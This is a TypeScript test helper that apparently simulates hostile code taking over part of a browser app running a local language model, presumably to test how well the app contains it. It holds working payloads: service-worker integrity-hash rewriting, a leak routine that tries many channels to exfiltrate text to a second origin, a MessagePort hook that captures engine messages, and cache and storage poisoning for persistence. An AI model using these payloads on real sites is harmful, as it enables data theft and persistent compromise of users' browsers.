/** Hostile code in a part of the app, as if a model had taken over that part. */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { builtScript, dist, type StaticHost } from './static-host.ts';

/**
 * The host then serves a build whose file of that name begins, or ends, with the code. The build's list of
 * hashes includes it, so the service worker accepts it.
 */
export function takeOver(
  host: StaticHost,
  name: string,
  code: { readonly before?: string; readonly after?: string },
): void {
  const file = builtScript(name);
  const changed = (body: Buffer) =>
    Buffer.concat([Buffer.from(code.before ?? ''), body, Buffer.from(code.after ?? '')]);
  const original = readFileSync(path.join(dist, file));
  const earlier = host.rewrite;
  host.rewrite = (asked, body) => {
    const given = earlier ? earlier(asked, body) : body;
    if (asked.endsWith(file)) return changed(given);
    if (!asked.endsWith('service-worker.js')) return given;
    const list = given.toString();
    return Buffer.from(list.replaceAll(integrityOf(original), integrityOf(changed(original))));
  };
}

const integrityOf = (body: Buffer) => createHash('sha256').update(body).digest('base64');

/**
 * Defines `leak(text)`, which tries every way out to this origin and the other one, and `ran(what)`, which
 * tells the test that code has run to its end, through a cache that any page of the origin can read.
 */
export function leaking(elsewhere: string): string {
  return `
    const leak = (text) => {
      for (const base of [location.origin, ${JSON.stringify(elsewhere)}]) {
        const url = base + '/leak?' + encodeURIComponent(text);
        const inWorker = ['fetch("' + url + '").catch(() => {}); import("' + url + '").catch(() => {});'];
        const script = URL.createObjectURL(new Blob(inWorker, { type: 'text/javascript' }));
        const tries = {
          fetch: () => fetch(url),
          keepalive: () => fetch(url, { method: 'POST', body: text, keepalive: true, mode: 'no-cors' }),
          xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(); },
          socket: () => new WebSocket(url.replace('http', 'ws')),
          socketStream: () => new WebSocketStream(url.replace('http', 'ws')).opened,
          beacon: () => navigator.sendBeacon(url, text),
          events: () => new EventSource(url),
          scripts: () => importScripts(url),
          module: () => import(url),
          worker: () => new Worker(url),
          moduleWorker: () => new Worker(url, { type: 'module' }),
          sharedWorker: () => new SharedWorker(url),
          serviceWorker: () => navigator.serviceWorker.register(url),
          nested: () => new Worker(script, { type: 'module' }),
          transport: () => new WebTransport(url.replace('http:', 'https:')),
          font: () => new FontFace('leak', 'url(' + url + ')').load(),
          cookie: () => cookieStore.set('leak', text),
          notification: () => new Notification('leak', { icon: url }),
          rtc: () => new RTCPeerConnection({ iceServers: [{ urls: url.replace('http://', 'stun:') }] })
            .createDataChannel('leak'),
        };
        for (const run of Object.values(tries)) {
          try { Promise.resolve(run()).catch(() => {}); } catch {}
        }
      }
    };
    const ran = (what) => caches.open('ran-' + what);
  `;
}

/** Calls `heard` with every message to the engine, and with every token of its answer. */
export const listening = `
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...args) {
    heard('answer ' + JSON.stringify(args[0]));
    return postMessage.apply(this, args);
  };
  addEventListener('message', ({ data }) => {
    data.port?.addEventListener('message', (event) => {
      const { wasm, ...rest } = event.data.model ?? {};
      heard('SECRET ' + JSON.stringify({ ...event.data, model: rest }));
    });
  });
`;

/**
 * Defines `poison(text)`, which writes the text, and code and addresses that send it, wherever a script of the
 * origin can write: a page that is not sealed would send it at the next visit.
 */
export function poisoning(elsewhere: string): string {
  return `
    const openDatabase = (name, store) => new Promise((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onupgradeneeded = () => request.result.createObjectStore(store);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    const put = async (name, store, entries) => {
      const database = await openDatabase(name, store);
      await new Promise((resolve, reject) => {
        const transaction = database.transaction(store, 'readwrite');
        for (const [key, value] of Object.entries(entries)) transaction.objectStore(store).put(value, key);
        transaction.oncomplete = resolve;
        transaction.onerror = reject;
      });
      database.close();
    };
    const poisonCaches = async (text) => {
      const leaks = [location.origin, ${JSON.stringify(elsewhere)}]
        .map((base) => base + '/leak?' + encodeURIComponent(text));
      const script = 'globalThis.poisoned = true; for (const url of ' + JSON.stringify(leaks) + ') {'
        + ' fetch(url).catch(() => {}); try { new Image().src = url; open(url); } catch {} }\\n';
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          const kept = await cache.match(request);
          const type = kept.headers.get('Content-Type') ?? '';
          const headers = {
            'Content-Type': type,
            Refresh: '0; url=' + leaks[1],
            Link: leaks.map((url) => '<' + url + '>; rel=preload; as=script').join(', '),
          };
          const body = await kept.text();
          const changed = /javascript/.test(type) ? script + body
            : /html/.test(type) ? body.replace('<head>', '<head><meta http-equiv="refresh" content="0; url=' + leaks[1] + '">')
            : /css/.test(type) ? body + ':root { --poisoned: 1; background: url(' + leaks[1] + ') }' : null;
          if (changed !== null) await cache.put(request, new Response(changed, { headers }));
        }
      }
    };
    const poison = async (text) => {
      const name = 'leak-' + encodeURIComponent(text);
      const facts = { name: '', licence: '', sizeBytes: 1e6, contextTokens: 512, template: 'chatml',
        quantisation: '', largestTensorBytes: 0 };
      const own = (id, url) => ({ id, name: id, facts, from: { kind: 'gguf', fileName: 'm.gguf', url } });
      await put('corral-settings', 'values', {
        'own-models': [
          own('own-here', new URL('/' + name + '.gguf', location.origin).href),
          own('own-elsewhere', ${JSON.stringify(elsewhere)} + '/' + name + '.gguf'),
        ],
        model: 'own-here',
      });
      const root = await navigator.storage.getDirectory().catch(() => null);
      if (root) {
        const file = await root.getFileHandle('index.html', { create: true });
        const access = await file.createSyncAccessHandle();
        access.write(new TextEncoder().encode(text));
        access.close();
      }
      for (const channel of ['corral-conversations', 'corral-shared-engine:isolated', 'corral-shared-engine:plain',
        'corral-download:smollm2-135m', 'leak']) {
        const speaker = new BroadcastChannel(channel);
        for (const message of [text, { type: 'update', url: '/' + name }, { type: 'saved', summary: null },
          ['/' + name, 1], { from: '/' + name, request: { type: 'load', url: '/' + name } }]) speaker.postMessage(message);
      }
      navigator.serviceWorker?.controller?.postMessage({ type: 'keep', parts: ['/' + name] });
      await poisonCaches(text);
    };
  `;
}
